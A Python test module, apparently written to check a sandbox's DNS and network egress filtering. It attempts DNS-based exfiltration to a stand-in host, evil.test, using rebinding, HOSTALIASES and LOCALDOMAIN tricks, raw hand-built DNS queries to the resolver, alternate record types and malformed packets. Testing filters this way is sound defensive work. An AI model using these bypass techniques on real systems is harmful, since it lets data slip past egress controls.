"""Names: what they lead to, and the question itself, which carries words to whoever answers it."""
import os
import socket
import struct
import subprocess
import time
import urllib.request

from attack.network import LIMIT, say, udp
from attack.raw import libc
from attack.stage import attempt


def label(stage):
    return stage.id.replace("_", "-")


def question(name):
    wire = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", 1, 1)


# ---- allowed names that lead where nobody may go ----

def lead(name):
    def work(stage):
        say(name, stage.port, stage.word)
    return work


for name in ("trap", "inner", "loop", "alias", "link", "zero"):
    attempt(f"py-name-{name}")(lead(f"{name}.test"))


@attempt("py-name-mapped")
def mapped(stage):
    address = socket.getaddrinfo("mapped.test", stage.port, socket.AF_INET6, socket.SOCK_STREAM)[0][4][0]
    say(address, stage.port, stage.word)


@attempt("py-name-mixed")
def mixed(stage):
    # One good answer and one bad; the bad one is taken.
    for *_, address in socket.getaddrinfo("mixed.test", stage.port, socket.AF_INET, socket.SOCK_STREAM):
        if address[0] == stage.blocked4:
            say(*address, stage.word)


@attempt("py-name-rebind")
def rebind(stage):
    # The first answer is good, later ones are bad.
    for _ in range(4):
        try:
            say("rebind.test", stage.port, stage.word)
        except OSError:
            continue
        time.sleep(0.7)


@attempt("py-name-port")
def port(stage):
    say("allowed.test", stage.closed, stage.word)


@attempt("py-name-of-another")
def of_another(stage):
    # Learned for the one name with its port, used with the port of another name.
    socket.getaddrinfo("allowed.test", stage.port)
    socket.getaddrinfo("elsewhere.test", stage.closed)
    say(socket.gethostbyname("elsewhere.test"), stage.port, stage.word)


# ---- forbidden names ----

@attempt("py-name-forbidden")
def forbidden(stage):
    socket.getaddrinfo(f"{label(stage)}.evil.test", 80)


@attempt("py-name-old-call")
def old_call(stage):
    socket.gethostbyname(f"{label(stage)}.evil.test")


@attempt("py-name-libc")
def by_libc(stage):
    libc.gethostbyname(f"{label(stage)}.evil.test".encode())


@attempt("py-name-subdomain")
def subdomain(stage):
    # The rule is for the name itself, not for those below it.
    socket.getaddrinfo(f"{label(stage)}.allowed.test", 80)


@attempt("py-name-suffix")
def suffix(stage):
    socket.getaddrinfo(f"{label(stage)}-allowed.test", 80)


@attempt("py-name-prefix")
def prefix(stage):
    socket.getaddrinfo(f"allowed.test.{label(stage)}.evil.test", 80)


@attempt("py-name-case")
def case(stage):
    socket.getaddrinfo(f"{label(stage)}.EVIL.Test.", 80)


@attempt("py-name-blocked-below")
def blocked_below(stage):
    # Below an allowed name with all its subdomains, a blocked one.
    socket.getaddrinfo(f"{label(stage)}.bad.wide.test", 80)


@attempt("py-name-urllib")
def url(stage):
    urllib.request.urlopen(f"http://{label(stage)}.evil.test:{stage.port}/", timeout=LIMIT).close()


@attempt("py-name-git")
def git(stage):
    return subprocess.run(["git", "ls-remote", f"git://{label(stage)}.evil.test/x"], capture_output=True, timeout=4,
                          check=False).stderr


@attempt("py-name-search")
def search(stage):
    # Where a short name is completed, the completion carries the word.
    os.environ["LOCALDOMAIN"] = f"{label(stage)}.evil.test"
    socket.getaddrinfo("x", 80)


@attempt("py-name-host-aliases")
def aliases(stage):
    with open(stage.own(), "w", encoding="utf-8") as file:
        file.write(f"allowed {label(stage)}.evil.test\n")
    os.environ["HOSTALIASES"] = stage.own()
    libc.gethostbyname(b"allowed")


@attempt("py-name-server-udp")
def server_udp(stage):
    udp().sendto(question(f"{label(stage)}.evil.test"), (stage.dns, 53))


@attempt("py-name-server-tcp")
def server_tcp(stage):
    asked = question(f"{label(stage)}.evil.test")
    say(stage.dns, 53, struct.pack("!H", len(asked)) + asked)


@attempt("py-name-relay")
def relay(stage):
    # Whatever answers names here, asked without the C library, with two questions in one.
    with open("/etc/resolv.conf", encoding="utf-8") as lines:
        server = [line.split()[1] for line in lines if line.startswith("nameserver")][0]
    asked = question("allowed.test")
    second = question(f"{label(stage)}.evil.test")
    both = asked[:4] + b"\0\2" + asked[6:] + second[12:]
    with udp() as one:
        one.connect((server, 53))
        for text in (both, second, second[:2] + b"\x28" + second[3:]):
            one.send(text)
        one.recv(512)


@attempt("py-name-relay-text")
def relay_text(stage):
    # A question of another type: whoever filters addresses only lets it by.
    with open("/etc/resolv.conf", encoding="utf-8") as lines:
        server = [line.split()[1] for line in lines if line.startswith("nameserver")][0]
    with udp() as one:
        one.connect((server, 53))
        for kind in (16, 5, 33, 65, 255):
            one.send(question(f"{label(stage)}.evil.test")[:-4] + struct.pack("!HH", kind, 1))
        one.recv(512)


@attempt("py-name-reverse")
def reverse(stage):
    socket.gethostbyaddr(stage.blocked4)
